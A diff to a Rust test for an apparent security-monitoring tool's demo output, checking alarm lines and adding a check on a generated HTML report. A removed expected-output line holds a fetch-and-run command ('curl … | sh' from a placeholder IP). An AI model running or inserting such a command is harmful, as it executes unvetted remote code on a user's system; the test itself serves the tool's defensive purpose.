@@ -29,12 +29,14 @@ fn the_demo_shows_five_commands_with_their_output() {
         "\nFiles   8 read\n",
         "\nAlarms  15 holding ",
         "\nA-8d652502d2797e8a  critical  GitHub key confirmation request\n",
-        "curl -fsS http://192.0.2.66/setup.sh | sh\n",
+        &format!("open {dir}/report.html in a browser"),
         "more lines\n",
         &format!("rm -r {dir}\n"),
     ] {
         assert!(told.contains(part), "{part:?} is missing in {told}");
     }
+    let page = std::fs::read_to_string(folder.join("report.html")).expect("the report");
+    assert!(page.starts_with("<!DOCTYPE html>") && page.contains("A-8d652502d2797e8a"));
 }
 
 #[test]
